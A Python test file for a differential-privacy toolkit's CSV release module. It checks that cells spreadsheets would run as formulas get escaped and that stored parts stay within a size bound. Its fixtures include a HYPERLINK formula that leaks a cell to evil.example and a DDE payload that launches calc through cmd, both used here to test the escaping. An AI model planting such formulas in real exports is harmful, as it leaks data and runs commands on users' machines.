"""A release's stored parts (:mod:`dpkit.server.release_parts`): CSV cells a spreadsheet would
run as formulas are escaped (issue 27, item 5: OWASP's rule, a text cell starting with
``= + - @``, tab or CR gets a leading ``'``), numbers are not; parts stay within their size (PART_BYTES).

Before this change the CSV wrote declared categories as they are (the end-to-end test fails
there), and there were no parts.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from dpkit.server.release_parts import FORMULA_START, PART_BYTES, TableShape, build_parts, content_digest, csv_text
from server._api import make_world

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
CALC = "+cmd|' /C calc'!A0"
LABELS = [HYPERLINK, CALC, "-5", "@SUM(A1)", "\tTab", "\rReturn", "safe"]


def test_text_cells_starting_a_formula_are_escaped_and_numbers_are_not() -> None:
    shape = TableShape.of(["label", "score", "code"], {"label": LABELS, "code": [-1, 2]})
    rows = [[label, -3.5, -1] for label in LABELS] + [[None, None, None]]
    ((text, encoded),) = build_parts(shape, ["label", "score", "code"], rows)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in parsed] == ["'" + x for x in LABELS[:-1]] + ["safe", ""]
    assert all(r[1:] == ["-3.5", "-1"] for r in parsed[:-1])  # numbers (numeric or integer categories) as they are
    assert encoded.startswith('["=HYPERLINK') and "-3.5,-1]" in encoded  # JSON keeps the paid values
    assert csv_text("=x\x00") == "'=x\ufffd" and csv_text("ok") == "ok"
    assert shape.header() == "label,score,code\r\n" and TableShape.of(["=a"], {}).header() == "'=a\r\n"


def test_parts_stay_within_their_bound_whatever_was_sampled() -> None:
    """Rows of the widest cells the declared domain allows: every part within PART_BYTES, and the
    stored size within the quota's bound."""
    wide = "é" * 300
    shape = TableShape.of(["x", "label"], {"label": [wide, "=" + wide]})
    rows = [[1.0 if i == 0 else -2.2250738585072014e-308, wide if i % 2 else "=" + wide] for i in range(10_000)]
    parts = build_parts(shape, ["x", "label"], rows)
    assert len(parts) > 1
    sizes = [(len(c.encode()), len(j.encode())) for c, j in parts]
    assert all(c <= PART_BYTES and j <= PART_BYTES for c, j in sizes)
    assert sum(c + j for c, j in sizes) <= shape.bound(len(rows))
    assert parts[0] != parts[-1]  # (the first row differs from every other)
    assert content_digest(parts) != content_digest(parts[::-1])  # order is part of the content


def test_a_downloaded_csv_escapes_declared_categories(tmp_path: Path) -> None:
    """End to end: the table is sampled from categories an analyst could have had the curator
    declare. Every category has 100 of 700 rows and 2,000 rows are drawn at ε = 5, so each
    appears unless its noisy share is far below 1/7: false failure below 1e-9."""
    world = make_world(tmp_path)
    try:
        rng = np.random.default_rng(7)
        labels = [x for x in LABELS if x != "\rReturn"] * 100  # (a CR is kept out of the source file)
        pd.DataFrame({"label": labels, "score": rng.uniform(-100, 0, len(labels))}).to_csv(
            tmp_path / "links.csv", index=False
        )
        meta = {"row_level": True, "columns": {"label": {"type": "categorical", "categories": LABELS}, "score": {"type": "numeric", "lower": -100, "upper": 0}}}  # fmt: skip
        world.service.register_dataset("links", tmp_path / "links.csv", meta)
        world.service.grant("alice", "links", epsilon=10.0, delta=1e-5)
        world.service.grant("bob", "links", epsilon=1.0, delta=1e-5)
        world.service.allow_publish("alice")
        client = world.client()
        body = {"epsilon": 5.0, "delta": 1e-6, "bins": {"score": 4}, "rows": 2000, "publish": "links"}
        r = client.post("/v1/datasets/links/synthetic", json=body, headers=world.h("alice"))
        assert r.status_code == 200, r.text
        text = client.get("/v1/releases/links?format=csv", headers=world.h("bob")).text
        table = list(csv.reader(io.StringIO(text, newline="")))
        assert table[0] == ["label", "score"] and len(table) == 2001
        cells = {row[0] for row in table[1:]}
        assert not any(c.startswith(FORMULA_START) for c in cells), cells
        assert {"'" + HYPERLINK, "'" + CALC, "'-5", "'@SUM(A1)", "'\tTab", "safe"} <= cells
        scores = [float(row[1]) for row in table[1:] if row[1]]
        assert scores and all(s <= 0 for s in scores) and any(row[1].startswith("-") for row in table[1:])
        assert {row[0] for row in client.get("/v1/releases/links", headers=world.h("bob")).json()["rows"]} <= {
            *LABELS,
            None,
        }
    finally:
        world.close()


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@a", "\ta", "\ra"])
def test_every_formula_start_is_escaped(value: str) -> None:
    assert csv_text(value) == "'" + value
